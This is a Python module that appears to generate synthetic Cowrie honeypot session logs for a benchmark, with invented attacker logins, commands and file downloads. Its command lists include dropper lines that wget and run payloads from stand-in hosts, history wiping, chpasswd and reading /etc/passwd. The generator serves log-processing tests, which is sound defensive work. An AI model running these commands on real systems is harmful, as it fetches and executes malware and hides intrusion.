"""A pool of attackers' sessions as Cowrie logs them, rendered once and replayed any number of times.

A session is rendered as JSON lines with a control character as the placeholder of each value that differs between
replays: JSON contains no unescaped control characters, so placeholders can be filled in by replacing text. The
proportions are those of real logs (see benchmarks/README.md), the data is invented.
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass
from random import Random

SESSION, SRC_IP, SRC_PORT, TIMESTAMP = "\x01", "\x02", "\x03", "\x04"
FILES = ("\x05", "\x06", "\x07", "\x0e", "\x0f", "\x10")
"""Placeholders of the hashes of the first, second, … file of a session."""

EMPTY_HASH = ""
DST_IP = "203.0.113.5"


def _words(text: str) -> list[str]:
    return text.split()


_KEX = _words(
    """curve25519-sha256 ecdh-sha2-nistp256 ecdh-sha2-nistp384 ecdh-sha2-nistp521
    diffie-hellman-group-exchange-sha256 diffie-hellman-group16-sha512 diffie-hellman-group18-sha512
    diffie-hellman-group14-sha256 diffie-hellman-group14-sha1 mlkem768x25519-sha256
    sntrup761x25519-sha512@openssh.com kex-strict-c-v00@openssh.com ext-info-c"""
)
_KEYS = _words(
    """ssh-ed25519 ssh-rsa rsa-sha2-256 rsa-sha2-512 ecdsa-sha2-nistp256 ecdsa-sha2-nistp384
    ecdsa-sha2-nistp521 ssh-ed25519-cert-v01@openssh.com rsa-sha2-256-cert-v01@openssh.com
    rsa-sha2-512-cert-v01@openssh.com ecdsa-sha2-nistp256-cert-v01@openssh.com
    ecdsa-sha2-nistp384-cert-v01@openssh.com ecdsa-sha2-nistp521-cert-v01@openssh.com
    sk-ssh-ed25519@openssh.com sk-ecdsa-sha2-nistp256@openssh.com"""
)
_CIPHERS = _words(
    """chacha20-poly1305@openssh.com aes128-gcm@openssh.com aes256-gcm@openssh.com aes128-ctr aes192-ctr
    aes256-ctr aes128-cbc aes192-cbc aes256-cbc 3des-cbc"""
)
_MACS = _words(
    """hmac-sha2-256-etm@openssh.com hmac-sha2-512-etm@openssh.com umac-128-etm@openssh.com
    umac-64-etm@openssh.com hmac-sha1-etm@openssh.com umac-128@openssh.com umac-64@openssh.com hmac-sha2-256
    hmac-sha2-512 hmac-sha1 hmac-md5 hmac-sha1-96"""
)
_CLIENTS = (
    "SSH-2.0-Go",
    "SSH-2.0-libssh2_1.10.0",
    "SSH-2.0-OpenSSH_9.6",
    "SSH-2.0-PUTTY",
    "b'SSH-2.0-paramiko'",
)
_USERS = ("root", "admin", "ubuntu", "user", "test", "oracle", "postgres", "pi", "git", "нет", "nproc", "")
_PASSWORDS = (
    *("123456", "admin", "password", "root", "P@ssw0rd", "1qaz2wsx", "toor", "raspberry", "3245gs5662d34", ""),
    *('a"b\\c', "\x1b[31m", "пароль", "密码", "\x00\x1f", "\U0001f600", "b'\\xff\\xfe'", "\u202e\ufeff"),
)
_COMMANDS = (
    *("uname -a", "whoami", "w", "uname -m", "top", "nproc", "enable", "system", "shell", "sh", "exit"),
    *("crontab -l", "lscpu | grep Model", "df -h | head -n 2", "ls -lh $(which ls)", "cat /etc/passwd"),
    *("cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem | awk '{print $2 ,$3}'"),
    *("cd /tmp || cd /var/run || cd /mnt || cd /root || cd /", "chmod +x x86; ./x86; rm -rf x86"),
    *("/bin/busybox TSUNAMI", "echo -e '\\x6F\\x6B'", "rm -rf /tmp/.x; history -c", "\x7fELF\x11\x12"),
    *('echo "root:Zx81kk"|chpasswd|bash', "lspci | grep -i vga"),
)
_PATHS = ("/root/.ssh/authorized_keys", "/var/run/.p", "/root/redtail.arm7", "/opt/.x", "")
_NAMES = ("redtail.arm7", "redtail.x86_64", "sshd", "setup.sh", "clean.sh", "m68k", "bins.sh", "x.py")


@dataclass(frozen=True, slots=True)
class Script:
    """A session.

    Attributes:
        text: its lines, joined by newlines.
        offsets_s: seconds from its start to each line.
        files: the number of different files that it names.
    """

    text: str
    offsets_s: tuple[float, ...]
    files: int


class _Session:
    """Collects the events of a session, with the key order of one version of Cowrie."""

    def __init__(self, rng: Random, sensor: str) -> None:
        self.rng = rng
        self.sensor = sensor
        self.old = rng.random() < 0.35  # the key order of Cowrie 2.2, else of 3.1
        self.telnet = not self.old and rng.random() < 0.12
        self.uuid = f"{rng.getrandbits(32):08x}-e605-11f1-b025-02fc00000001"
        self.lines: list[str] = []
        self.offsets_s: list[float] = []
        self.now_s = 0.0
        self.files = 0

    def event(self, eventid: str, message: object, delay_s: float, /, **fields: object) -> None:
        """Add an event; `delay_s` is the mean delay until the next one, in seconds."""
        tail = {"sensor": self.sensor, "timestamp": TIMESTAMP}
        if self.old:
            event = {"eventid": f"cowrie.{eventid}", **fields, "message": message, **tail}
            event |= {"src_ip": SRC_IP, "session": SESSION}
        else:
            port = 2223 if self.telnet else 2222
            event = {"session": SESSION, "protocol": "telnet" if self.telnet else "ssh", "src_ip": SRC_IP}
            event |= {"src_port": SRC_PORT, "dst_ip": DST_IP, "dst_port": port, **fields}
            event |= {"eventid": f"cowrie.{eventid}", "sensor": self.sensor, "uuid": self.uuid}
            event |= {"timestamp": TIMESTAMP, "message": message}
        self.lines.append(_render(event))
        self.offsets_s.append(self.now_s)
        self.now_s += self.rng.expovariate(1 / delay_s)

    def connect(self) -> None:
        here = f"{SRC_IP}:{SRC_PORT} ({DST_IP}:2222) [session: {SESSION}]"
        old = {"src_port": SRC_PORT, "dst_ip": DST_IP, "dst_port": 2222, "protocol": "ssh"} if self.old else {}
        self.event("session.connect", f"New connection: {here}", 0.2, **old)

    def close(self) -> None:
        milliseconds = int(self.now_s * 1000)
        if self.old:
            spent: dict[str, object] = {"duration": self.now_s}
            self.event("session.closed", f"Connection lost after {milliseconds // 1000} seconds", 1, **spent)
        else:
            message = f"Connection lost after {milliseconds} milliseconds"
            self.event("session.closed", message, 1, duration_ms=milliseconds)

    def negotiate(self) -> None:
        rng = self.rng
        client = rng.choice(_CLIENTS)
        self.event("client.version", f"Remote SSH version: {client}", 0.1, version=client)
        if rng.random() < 0.02:
            return
        scale = 1.0 if not self.old and rng.random() < 0.26 else 0.45
        algorithms = [_some(rng, names, scale) for names in (_KEX, _KEYS, _CIPHERS, _MACS)]
        if scale == 1.0 and rng.random() < 0.9:  # a client that offers everything, and its vendor's own names too
            algorithms = [[*names, *(f"{n}-2@vendor.example" for n in names[:4])] for names in algorithms]
        kex, keys, ciphers, macs = algorithms
        offered = ";".join(",".join(names) for names in (kex, ciphers, macs, ["none", "zlib"]))
        hassh = hashlib.md5(offered.encode(), usedforsecurity=False).hexdigest()
        self.event(
            "client.kex", f"SSH client hassh fingerprint: {hassh}", 0.4, hassh=hassh, hasshAlgorithms=offered,
            kexAlgs=kex, keyAlgs=keys, encCS=ciphers, macCS=macs, compCS=["none", "zlib"], langCS=[""],
        )  # fmt: skip

    def login(self, *, success: bool) -> None:
        user, password = self.rng.choice(_USERS), self.rng.choice(_PASSWORDS)
        outcome = "succeeded" if success else "failed"
        message = f"login attempt [{user}/{password}] {outcome}"
        name = "login.success" if success else "login.failed"
        self.event(name, message, 1.5, username=user, password=password)

    def command(self) -> None:
        rng = self.rng
        command = rng.choice(_COMMANDS)
        if rng.random() < 0.12:
            command = _long_command(rng)
        self.event("command.input", f"CMD: {command}", 0.3, input=command)
        if rng.random() < 0.016:
            self.event("command.failed", f"Command not found: {command}", 0.1, input=command)

    def terminal(self) -> None:
        """Add the events of a client that requests a terminal, by SSH or telnet."""
        if self.telnet:
            self.event("telnet.option", "Telnet option: NAWS 80x24", 0.1, option="NAWS", value="80x24")
            return
        self.event("client.size", "Terminal Size: 80 24", 0.05, width=80, height=24)
        if self.rng.random() < 0.5:
            self.event("client.var", "request_env: LANG=C.UTF-8", 0.05, name="LANG", value="C.UTF-8")

    def offer_key(self) -> None:
        """Add a login attempt with a public key."""
        digits = f"{self.rng.getrandbits(128):032x}"
        fingerprint = ":".join(digits[n : n + 2] for n in range(0, 32, 2))
        key = f"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAB{self.rng.getrandbits(1500):x}"
        message = f"public key attempt for user root of type ssh-rsa with fingerprint {fingerprint}"
        fields = {"username": "root", "fingerprint": fingerprint, "key": key, "type": "ssh-rsa"}
        self.event("client.fingerprint", message, 0.5, **fields)

    def channel(self, *, commands: int, files: int, logged: bool = True) -> None:
        """Add an exec channel or shell: parameters, commands, their files, the tty log."""
        self.event("session.params", [] if self.old else "", 0.05, arch="linux-x64-lsb")
        for _ in range(commands):
            self.command()
        for _ in range(files):
            self.file()
        if logged:
            shasum = f"{self.rng.getrandbits(256):064x}"
            path, seconds = f"var/lib/cowrie/tty/{shasum}", self.rng.random() * 4
            spent: dict[str, object] = {"duration": seconds} if self.old else {"duration_ms": int(seconds * 1e3)}
            self.event(
                "log.closed", f"Closing TTY Log: {path} after {int(seconds)} seconds", 0.2, ttylog=path,
                size=self.rng.randrange(5000), shasum=shasum, duplicate=self.rng.random() < 0.6, **spent,
            )  # fmt: skip

    def file(self) -> None:
        """Add a file event; of the real ones a tenth are uploads, 3.4 % have no hash, 27 % have a URL."""
        rng = self.rng
        if rng.random() < 0.015:
            self.event("session.file_download", "INPUT (scp): ls", 0.2, realm="scp", input="ls")
            return
        url = f"http://198.18.{rng.randrange(256)}.{rng.randrange(256)}/{rng.choice(_NAMES)}"
        if rng.random() < 0.05:
            message = f"Attempt to download file(s) from URL ({url}) failed"
            self.event("session.file_download.failed", message, 0.5, url=url)
        if self.files and rng.random() < 0.3:
            shasum = FILES[rng.randrange(self.files)]
        elif self.files < len(FILES):
            shasum = FILES[self.files]
            self.files += 1
        else:
            shasum = FILES[-1]
        outfile = f"var/lib/cowrie/downloads/{shasum}"
        if rng.random() < 0.09:
            name = rng.choice(_NAMES)
            message = f'SFTP Uploaded file "{name}" to {outfile}'
            self.event("session.file_upload", message, 0.5, filename=name, outfile=outfile, shasum=shasum)
        elif rng.random() < 0.034:
            self.event("session.file_download", f"Downloaded URL ({url})", 0.5, url=url, outfile="", shasum="")
        elif rng.random() < 0.27:
            message = f"Downloaded URL ({url}) with SHA-256 {shasum} to {outfile}"
            self.event("session.file_download", message, 0.5, url=url, outfile=outfile, shasum=shasum)
        else:
            message = f"Saved redir contents with SHA-256 {shasum} to {outfile}"
            fields = {"duplicate": rng.random() < 0.8, "outfile": outfile, "shasum": shasum}
            self.event("session.file_download", message, 0.3, **fields, destfile=rng.choice(_PATHS))

    def forward(self) -> None:
        rng = self.rng
        where = {"dst_ip": "ya.example", "dst_port": 80}
        message = "direct-tcp connection request to ya.example:80 from 0.0.0.0:0"
        for number in range(rng.randint(1, 6)):
            self.event("direct-tcpip.request", message, 0.3, **where)
            if rng.random() < 0.5:
                data = "b'GET / HTTP/1.0\\r\\nUser-Agent: " + "x" * rng.randrange(300) + "\\r\\n\\r\\n'"
                text = f"discarded direct-tcp forward request {number} to ya.example:80 with data {data}"
                self.event("direct-tcpip.data", text, 0.3, **where, data=data, id=number)

    def script(self) -> Script:
        return Script("\n".join(self.lines), tuple(self.offsets_s), self.files)


def make_scripts(rng: Random, count: int, sensor: str) -> list[Script]:
    """Return a pool of sessions of every kind, in the proportions of real logs."""
    return [_make_script(rng, sensor) for _ in range(count)]


def _make_script(rng: Random, sensor: str) -> Script:
    session = _Session(rng, sensor)
    kind = rng.random()
    session.connect()
    if kind > 0.09 and not session.telnet:
        session.negotiate()
    if 0.13 < kind <= 0.42:
        for _ in range(rng.choice((1, 1, 1, 1, 2, 3, 5))):
            session.login(success=False)
    elif kind > 0.42:
        for _ in range(rng.choice((0, 0, 0, 0, 0, 0, 1, 2))):
            session.login(success=False)
        if rng.random() < 0.01:
            session.offer_key()
        session.login(success=True)
        _act(rng, session)
    session.close()
    if kind > 0.995:
        session.event("session.file_download.failed", "Attempt failed", 1, url="tftp://198.18.0.7/x", late=True)
    return session.script()


def _act(rng: Random, session: _Session) -> None:
    """Add the events after a successful login."""
    kind = rng.random()
    if kind < 0.04:
        session.forward()
    elif kind < 0.20:
        session.terminal()
        session.channel(commands=rng.randint(3, 14), files=int(rng.random() < 0.25))
    elif kind < 0.65:
        for _ in range(rng.randint(1, 4)):
            session.channel(commands=1, files=int(rng.random() < 0.15))
    elif kind < 0.72:
        session.channel(commands=1, files=rng.choice((1, 2, 3, 6, 11)), logged=False)
    else:
        for number in range(rng.randint(8, 15)):
            session.channel(commands=1 + (number == 4), files=int(number == 5 and rng.random() < 0.8))


def _some(rng: Random, names: list[str], share: float) -> list[str]:
    return [name for name in names if rng.random() < share] or names[:1]


def _long_command(rng: Random) -> str:
    """Return a command as droppers send it: usually hundreds of bytes, sometimes thousands."""
    pieces = [f"wget http://198.18.{rng.randrange(256)}.7/{rng.choice(_NAMES)} -O /tmp/x; chmod 777 /tmp/x; "]
    chars = min(int(rng.paretovariate(1.1) * 90), 5000)
    while sum(map(len, pieces)) < chars:
        pieces.append(f"echo -ne '\\x{rng.randrange(256):02x}' >> /tmp/.{rng.randrange(9)}; /tmp/.x {rng.random()}; ")
    return "".join(pieces)[: max(chars, 60)]


def _render(event: dict[str, object]) -> str:
    """Return the event as Cowrie writes it, with unescaped placeholders."""
    line = json.dumps(event, separators=(",", ":"))
    for marker in (SESSION, SRC_IP, TIMESTAMP, *FILES):
        line = line.replace(json.dumps(marker)[1:-1], marker)
    port = json.dumps(SRC_PORT)[1:-1]
    return line.replace(f'"{port}"', SRC_PORT).replace(port, SRC_PORT)
